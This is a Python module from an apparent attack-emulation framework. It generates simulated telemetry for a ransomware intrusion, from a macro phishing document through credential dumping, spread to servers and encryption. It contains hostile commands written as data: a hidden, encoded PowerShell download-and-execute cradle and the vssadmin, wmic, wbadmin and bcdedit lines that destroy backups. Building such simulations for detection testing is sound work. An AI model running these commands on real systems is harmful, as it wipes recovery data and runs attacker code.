"""Ransomware: a letter, a macro, a beacon, stolen credentials, servers, and encrypted files."""

from base64 import b64encode

from hauberk.emulate.accounts import Account, Process
from hauberk.emulate.agenda import Actor
from hauberk.emulate.company import Person, words
from hauberk.emulate.deeds import open_share, plain
from hauberk.emulate.programs import program, unknown
from hauberk.emulate.times import MINUTE
from hauberk.emulate.windows_deeds import delete_file, script, service_state, write_file
from hauberk.emulate.windows_host import WindowsHost

from .attack import Attack
from .toolbox import autostart, beacon, dump_lsass, look_around, spread

_AGENT = "Mozilla/4.0 (compatible; ms-office; MSOffice 16)"
_FORBID = (
    ("vssadmin", "vssadmin.exe delete shadows /all /quiet", ["T1490"]),
    ("wmic", "wmic.exe shadowcopy delete", ["T1490"]),
    ("wbadmin", "wbadmin.exe delete catalog -quiet", ["T1490"]),
    ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No", ["T1490"]),
)


def ransomware(attack: Attack) -> Actor:
    """All of it within a working day."""
    company, dice = attack.company, attack.dice
    at = attack.office_time(10.2, 11.4)
    yield at
    office = company.staff("staff", "finance", "hr")
    present = [each for each in office if each.host.interactive is not None]
    victim = dice.choice(present or office)
    host = victim.host
    if host.interactive is None:
        host.on = True
        host.interactive = host.log_on(at, victim.account, 2)
    loader = _arrive(attack, victim, at)
    at += 60
    site = attack.site("cdn", "sync", "status", "img")
    ends = at + dice.uniform(3.5, 5) * 3600
    company.agenda.add(beacon(attack, host, loader, site, ends, at), at)
    yield at
    autostart(attack, host, loader, loader.image, at + dice.uniform(5, 60))
    at += dice.uniform(8, 25) * MINUTE
    yield at
    look_around(attack, host, loader, at)
    at += dice.uniform(10, 30) * MINUTE
    yield at
    dump_lsass(attack, host, loader, at)
    admins = [each.powers for each in company.staff("it") if each.powers is not None]
    stolen = dice.choice([*admins, company.services["svc_deploy"]])
    at += dice.uniform(10, 40) * MINUTE
    payload = unknown(f"C:\\Windows\\{attack.word()}.exe")
    reached: list[tuple[WindowsHost, Process]] = []
    for name in ("fs01", "sql01", "bk01", "dc01"):
        yield at
        server = company.windows[name]
        reached.append((server, spread(attack, host, stolen, server, payload, at, loader)))
        at += dice.uniform(2, 9) * MINUTE
    for server, process in reached:
        yield at
        _forbid_recovery(attack, server, process, at)
        at += dice.uniform(20, 90)
    ending = attack.word(4, 6)
    for server, process in reached[:3]:
        yield at
        _encrypt(attack, server, process, ending, at)
        at += dice.uniform(5, 30)
    yield at
    _encrypt_shares(attack, host, stolen, ending, at)


def _arrive(attack: Attack, victim: Person, time: float) -> Process:
    """A letter with a document, whose macro fetches and starts a program."""
    company, dice, host, account = attack.company, attack.dice, victim.host, victim.account
    sender = f"{dice.choice(words()['first_names']).lower()}@{attack.site('billing', 'office')}"
    subject = f"{dice.choice(words()['subjects'])} {dice.randrange(1000, 99999)}"
    name = f"{subject.replace(' ', '_')}.docm"
    server = company.windows["ex01"]
    with attack.step(
        "letter", "initial-access", ["T1566.001"], f"A letter from {sender} brings {name}",
        users=[account.name], files=[name], ips=[company.address(sender.split("@")[1])],
    ):  # fmt: skip
        company.sensor.mail(
            time, company.address(sender.split("@")[1]), server.ip,
            (sender, victim.mail, subject), dice.randrange(60_000, 300_000),
            (name, "application/vnd.ms-word.document.macroEnabled.12"),
        )  # fmt: skip
    at = time + dice.uniform(20, 50)
    session = host.interactive
    explorer = host.running.get("explorer", host.running["services"])
    site = attack.site("files", "docs")
    dropped = f"{account.home}\\AppData\\{dice.choice(('Roaming', 'Local'))}\\{attack.word()}\\"
    dropped += f"{attack.word()}.exe"
    with attack.step(
        "macro", "execution", ["T1204.002", "T1059.005", "T1059.001", "T1105", "T1027"],
        f"The macro of {name} starts PowerShell, which fetches {dropped} from {site}",
        hosts=[host.name], users=[account.name], files=[dropped], domains=[site],
        ips=[company.address(site)],
    ):  # fmt: skip
        outlook = host.start(at, "outlook", explorer, session)
        folder = f"{account.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
        path = f"{folder}{dice.token(8).upper()}\\{name}"
        write_file(host, at + 1, outlook, path)
        word = host.start(at + 2, "winword", outlook, session,
                          f'"{program("winword").image}" /n "{path}" /o ""')  # fmt: skip
        host.load(
            at + 5, word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
        )
        stage = f"http://{site}/{attack.word()}"
        text = f"$c=New-Object Net.WebClient;$c.DownloadFile('{stage}','{dropped}');"
        text += f"Start-Process '{dropped}'"
        encoded = _encoded(text)
        flag = dice.choice(("-enc", "-e", "-EncodedCommand", "-ec"))
        hidden = dice.choice(("-w hidden", "-WindowStyle Hidden", "-nop -w 1"))
        shell = host.start(
            at + 7, "powershell", word, session, f"powershell.exe {hidden} {flag} {encoded}"
        )
        script(host, at + 8, shell, text)
        path = "/" + stage.rsplit("/", 1)[1]
        plain(company, host, at + 8.5, shell, site, ("GET", path), _AGENT,
              dice.randrange(90_000, 700_000), "application/x-dosexec")  # fmt: skip
        write_file(host, at + 9.4, shell, dropped)
        return host.start(at + 10, unknown(dropped), shell, session)


def _encoded(text: str) -> str:
    return b64encode(text.encode("utf-16-le")).decode()


def _forbid_recovery(attack: Attack, server: WindowsHost, process: Process, time: float) -> None:
    """Shadow copies and backups are deleted, services that hold files open are stopped."""
    with attack.step(
        "forbid-recovery", "impact", ["T1490", "T1489"],
        f"Shadow copies and backup catalogues are deleted on servers, {server.name} among them",
        hosts=[server.name], processes=[process.image],
    ):  # fmt: skip
        at = time
        for name, command, _ in attack.dice.sample(_FORBID, 3):
            shell = server.start(at, "cmd", process, command=f"cmd.exe /c {command}", lives=4)
            server.start(at + 0.1, name, shell, command=command, lives=3)
            at += attack.dice.uniform(0.5, 5)
        for service in ("SQL Server (MSSQLSERVER)", "Vaultkeep Agent"):
            server.start(at, "net", process, command=f'net stop "{service}" /y', lives=2)
            service_state(server, at + 1, service, "stopped")
            at += 1.5


def _encrypt(
    attack: Attack, server: WindowsHost, process: Process, ending: str, time: float
) -> None:
    """Files are written under a new ending, and a note beside them."""
    dice, known = attack.dice, words()
    note = f"{dice.choice(('README', 'RESTORE', 'HOW_TO'))}_{ending.upper()}.txt"
    with attack.step(
        "encrypt", "impact", ["T1486"], f"Files on servers are encrypted to .{ending}",
        hosts=[server.name], processes=[process.image], files=[note],
    ):  # fmt: skip
        at = time
        for number in range(dice.randrange(350, 600)):
            folder = (
                f"D:\\Shares\\{dice.choice(('Common', 'Finance', 'Projects', 'Sales', 'HR'))}\\"
            )
            folder += f"{dice.choice(known['projects'])}\\"
            file = (
                f"{dice.choice(known['subjects'])}{number}.{dice.choice(('docx', 'xlsx', 'pdf'))}"
            )
            write_file(server, at, process, f"{folder}{file}.{ending}")
            delete_file(server, at + 0.01, process, folder + file)
            if number % 40 == 0:
                write_file(server, at + 0.02, process, folder + note)
            at += dice.uniform(0.02, 0.2)


def _encrypt_shares(
    attack: Attack, host: WindowsHost, account: Account, ending: str, time: float
) -> None:
    """What the first computer reaches on the file server is encrypted over the network."""
    dice, known = attack.dice, words()
    server = attack.company.windows["fs01"]
    with attack.step(
        "encrypt-shares", "impact", ["T1486"],
        f"{host.name} renames files on shares of {server.name} to .{ending}",
        hosts=[host.name, server.name], users=[account.name], ips=[host.ip],
    ):  # fmt: skip
        opened = [
            ("SMB::FILE_RENAME",
             f"{dice.choice(known['projects'])}\\{dice.choice(known['subjects'])}{number}.docx.{ending}",
             dice.randrange(9000, 900_000))
            for number in range(260)
        ]  # fmt: skip
        open_share(attack.company, time, host, server, account, "Projects", opened, 90, "NTLM")
